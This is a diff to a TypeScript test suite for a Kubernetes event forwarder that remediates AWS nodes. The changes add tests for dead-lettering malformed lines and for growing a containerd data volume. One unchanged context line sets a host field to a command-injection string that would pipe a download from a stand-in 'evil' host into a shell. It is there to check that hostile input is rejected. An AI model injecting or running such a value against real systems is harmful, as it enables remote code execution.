@@ -307,6 +307,7 @@ describe('Feature: malformed events are dead-lettered with the reason; the rest 
     hostile.source.host = `ip-10-0-1-149.ec2.internal;curl$\{IFS}evil|sh`;
     const wrongShape = {
       kind: 'Event',
+      involvedObject: { kind: 'Pod', namespace: 'default', name: 'p' },
       reason: 'Failed',
       type: 'Warning',
       message: 'no metadata at all',
@@ -347,6 +348,51 @@ describe('Feature: malformed events are dead-lettered with the reason; the rest 
   });
 });
 
+describe('Feature: a line the runtime cannot feed is a dead letter of its own; the run goes on', () => {
+  it('dead-letters a line without involvedObject, one nested 3,000 deep and one SQS cannot carry, heals the node, and prints them all', async () => {
+    // Prepare
+    const seed = await readFile(SEED, 'utf8');
+    const noObject = JSON.parse(seed.split('\n')[0] as string);
+    delete noObject.involvedObject;
+    const deep = `${'{"a":'.repeat(2999)}{}${'}'.repeat(2999)}`;
+    // A NUL and a lone surrogate: characters an SQS message may not hold.
+    const unsendable = '{"message":"\u0000\ud800"';
+    const input = [JSON.stringify(noObject), deep, unsendable, seed].join('\n');
+
+    // Act
+    const result = await runLocal({
+      items: parseEvents(input),
+      node: 'simulated',
+    });
+
+    // Assess
+    const reasons = result.deadLetters.map((d) => `${d.queue}: ${d.reason}`);
+    expect(reasons).toEqual([
+      expect.stringMatching(
+        /^forwarder: line 1: not a Kubernetes Event: .*involvedObject/
+      ),
+      'forwarder: line 2: line is nested deeper than 64 levels',
+      expect.stringMatching(/^forwarder: line 3: line is not JSON/),
+    ]);
+    // One incident resolved (a record SQS redelivers on a busy machine
+    // emits its stored decision again: the same incident, twice).
+    const resolved = ofType(result, DETAIL_TYPES.incidentResolved);
+    expect(new Set(resolved.map((e) => e.detail.incidentId)).size).toBe(1);
+    const text = renderTimeline(result, 'input');
+    expect(text).toContain(
+      'forwarder: line 1: not a Kubernetes Event: involvedObject is missing or not an object'
+    );
+    const dead = renderJson(result)
+      .split('\n')
+      .map((l) => JSON.parse(l))
+      .filter((l) => 'deadLetter' in l);
+    expect(dead.map((l) => l.deadLetter.reason)).toEqual(
+      result.deadLetters.map((d) => d.reason)
+    );
+    expect(dead[1]?.deadLetter.body).toBe(deep);
+  }, 180_000);
+});
+
 describe('Feature: a self-managed node group is rolled by an instance refresh', () => {
   it('refreshes the group, follows the refresh to its end, and stays within its roles', async () => {
     // Prepare: the seed's node, in an Auto Scaling group of its own.
@@ -377,6 +423,87 @@ describe('Feature: a self-managed node group is rolled by an instance refresh', 
     );
     expect(await deniedCalls(result)).toEqual([]);
   });
+});
+
+describe('Feature: containerd on a volume of its own (the nodeadm layout) is the volume that grows', () => {
+  it('rolls the group from events/samples/fleets/al2023-data-volume.json by growing /dev/xvdb, not the root', async () => {
+    // Prepare: AL2023, a 100 GiB root and containerd on a 20 GiB /dev/xvdb.
+    const fleet = FleetFile.parse(
+      JSON.parse(
+        await readFile(
+          new URL(
+            '../../events/samples/fleets/al2023-data-volume.json',
+            import.meta.url
+          ),
+          'utf8'
+        )
+      )
+    );
+    const items = parseEvents(await readFile(SEED, 'utf8'));
+
+    // Act
+    const result = await runLocal({
+      items,
+      fleet,
+      keepMoto: true,
+      node: 'simulated',
+    });
+
+    // Assess
+    try {
+      const node = result.nodes[0];
+      const completed = ofType(result, DETAIL_TYPES.nodePruneCompleted)[0]
+        ?.detail;
+      expect(completed).toMatchObject({
+        outcome: 'roll',
+        volumeSizeGiB: 20,
+        volumeDeviceName: '/dev/xvdb',
+        volumeRule: 'prune-report',
+        report: {
+          fsBytesTotal: 20 * 1024 ** 3,
+          volume: { id: node?.volumeIds['/dev/xvdb'], device: '/dev/nvme1n1' },
+        },
+      });
+      expect(
+        ofType(result, DETAIL_TYPES.volumeRollRequested)[0]?.detail
+      ).toMatchObject({ deviceName: '/dev/xvdb', volumeRule: 'prune-report' });
+      expect(
+        ofType(result, DETAIL_TYPES.volumeRollStarted)[0]?.detail
+      ).toMatchObject({
+        deviceName: '/dev/xvdb',
+        oldSizeGiB: 20,
+        newSizeGiB: 100,
+        launchTemplate: { oldVersion: 1, newVersion: 2 },
+      });
+      const out = await clientsOf(result).ec2.send(
+        new DescribeLaunchTemplateVersionsCommand({
+          LaunchTemplateId: node?.launchTemplateId,
+          Versions: ['1', '2'],
+        })
+      );
+      const [v1, v2] = [1, 2].map(
+        (n) =>
+          out.LaunchTemplateVersions?.find((v) => v.VersionNumber === n)
+            ?.LaunchTemplateData
+      );
+      const [root, data] = blockDevicesOf(result.fleet.nodes[0] as never);
+      expect(v1?.BlockDeviceMappings).toEqual([root, data]);
+      expect(v2?.BlockDeviceMappings).toEqual([
+        root,
+        { ...data, Ebs: { ...data?.Ebs, VolumeSize: 100 } },
+      ]);
+      expect(v2?.UserData).toBe(v1?.UserData);
+      expect(
+        ofType(result, DETAIL_TYPES.incidentResolved).length
+      ).toBeGreaterThan(0);
+      expect(renderTimeline(result, 'seed')).toContain(
+        'containerd on /dev/xvdb 20 GiB'
+      );
+      expect(await deniedCalls(result)).toEqual([]);
+    } finally {
+      await result.moto?.stop();
+    }
+  }, 180_000);
 });
 
 describe('Feature: a Bottlerocket node gets the Bottlerocket prune document', () => {
